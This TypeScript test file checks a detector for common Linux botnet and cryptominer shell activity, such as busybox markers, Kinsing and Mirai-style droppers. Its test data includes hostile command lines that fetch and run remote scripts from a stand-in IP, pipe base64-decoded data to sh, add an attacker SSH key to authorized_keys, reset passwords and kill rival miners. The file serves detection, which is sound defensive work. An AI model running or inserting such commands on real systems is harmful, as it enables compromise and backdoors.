import { describe, expect, test } from "vitest";
import { commonLinuxBots } from "./common-linux-bots.ts";
import { payloadArchitecture } from "./knowledge/bots.ts";
import { ShellHost } from "./testing/shell-host.ts";

describe("common linux bots: unique marks", () => {
  test.each([
    "/bin/busybox QWXZK",
    "busybox satori",
    "dd bs=52 count=1 if=.d",
    "dd if=/bin/echo bs=1 count=64",
    "cp /bin/echo .d",
    "cat /proc/self/exe",
    "/tmp/kinsing",
    "/home/eve/dvrHelper telnet",
    "/tmp/arm7 scan",
    "./sora.mips",
    "wget http://203.0.113.9/z.mpsl -O .z",
    "tftp -g -r bins.sh 203.0.113.9",
    "curl -O http://203.0.113.9/gpon.sh",
    "pkill -9 kdevtmpfsi",
    "rm -rf /tmp/kinsing",
    "lockr -ia .ssh",
    "/tmp/.X31-unix/.rsync/c/run",
    "cat /var/tmp/.systemcache12345",
    "mkdir /tmp/.X52-unix",
    "/var/tmp/.rsync/start",
    "./q telnet.selfrep",
    "/bin/busybox echo -e \\x71\\x77\\x65\\x72",
    "./q.arm6 telnet",
    "/tmp/.q/w.mipsel.ko",
    "ls -la /var/run/gcc.pid",
  ])("%s", (line) => {
    expect(new ShellHost(commonLinuxBots).run(line)).toHaveLength(1);
  });

  test.each([
    'echo "root:x"|chpasswd|bash',
    "enable; system; shell; sh",
    "cd /tmp || cd /var/run || cd /mnt || cd /; wget http://files.example/i.sh; sh i.sh",
    "for a in mips arm7 x86; do wget http://203.0.113.9/$a; done",
    "echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > .d",
    "while read i; do echo $i; done < /bin/echo",
    "ps aux | grep -E 'upd|kinsing' | awk '{print $2}' | xargs kill -9",
    'echo -e "old\\nq1w2\\nq1w2"|passwd',
    `echo -ne '${"\\x07\\xac".repeat(12)}' >> .d`,
    "wget http://203.0.113.9/q.sh || curl -O http://203.0.113.9/q.sh",
    "cd /var/tmp; echo ZWNobyBoaQo= | base64 -d | sh",
    "echo 'ssh-rsa AAAA mdrfckr' >> .ssh/authorized_keys",
  ])("in a line: %s", (line) => {
    expect(new ShellHost(commonLinuxBots).line(line)).toHaveLength(1);
  });

  test.each([
    "busybox sh -c ls",
    "/bin/busybox httpd -p 80",
    "busybox --list",
    "busybox echo -e \\x1b\\x5b\\x6d",
    "ls /tmp/.X11-unix",
    "./tool-linux-arm64 serve",
    "./game.x86_64",
    "python3 gen.mips",
    "docker run --rm busybox echo HELLO",
    "apk upgrade busybox",
    "chmod 777 /srv/share",
    "cat /proc/mounts",
    "dd if=/dev/zero of=/swap bs=1M count=64",
    "dd if=/dev/sda of=mbr bs=512 count=1",
    "wget https://files.example/node_exporter-1.8.linux-arm64.tar.gz",
    "curl -LO https://dl.example/bin/linux/amd64/kubectl",
    "wget http://192.168.4.2/firmware.mips",
    "uname -m",
    "./configure x86",
    "cp /bin/echo /srv/rootfs/bin/echo",
  ])("near miss stays quiet: %s", (line) => {
    expect(new ShellHost(commonLinuxBots).run(line)).toEqual([]);
  });
});

test.each([
  "wget https://files.example/q.sh || curl -O https://files.example/q.sh",
  "cd /srv; echo ZWNobyBoaQo= | base64 -d | sh",
  "cd /tmp; echo ZWNobyBoaQo= | base64 -d > hi",
  "ps aux | grep -E 'upd|worker' | awk '{print $2}' | xargs kill -9",
  "ps aux | grep kinsing | awk '{print $2}' | xargs echo",
  'echo -e "q1w2\\nq1w2" | passwd app',
  `echo -ne '${"\\x07\\xac".repeat(12)}' >> image.bin`,
])("near miss in a line stays quiet: %s", (line) => {
  expect(new ShellHost(commonLinuxBots).line(line)).toEqual([]);
});

describe("common linux bots: two weak marks", () => {
  test("in the same session and minute are a finding, with both named", () => {
    const host = new ShellHost(commonLinuxBots);
    expect(host.run("cat /proc/mounts")).toEqual([]);
    host.now += 60_000;
    const [found] = host.run("wget");
    expect(found).toMatchObject({ count: 2, firstSeen: host.now - 60_000 });
  });

  test("a moment later than the window, in another session, or twice the same, are nothing", () => {
    const host = new ShellHost(commonLinuxBots);
    host.run("cat /proc/mounts");
    expect(host.run("wget", { session: 4 })).toEqual([]);
    expect(host.run("cat /proc/mounts")).toEqual([]);
    host.now += 60_001;
    expect(host.run("wget")).toEqual([]);
  });

  test("after a finding the count starts afresh", () => {
    const host = new ShellHost(commonLinuxBots);
    host.run("cat /proc/mounts");
    expect(host.run("wget")).toHaveLength(1);
    expect(host.run("wget")).toEqual([]);
  });
});

test.each([
  ["mips.bot", "mips"],
  ["x.armv7l", "armv7l"],
  ["arm7", "arm7"],
  ["charm", undefined],
  ["app.tar.gz", undefined],
  ["linux-amd64.tgz", undefined],
])("the processor in %s is %s", (name, processor) => {
  expect(payloadArchitecture(name)).toBe(processor);
});
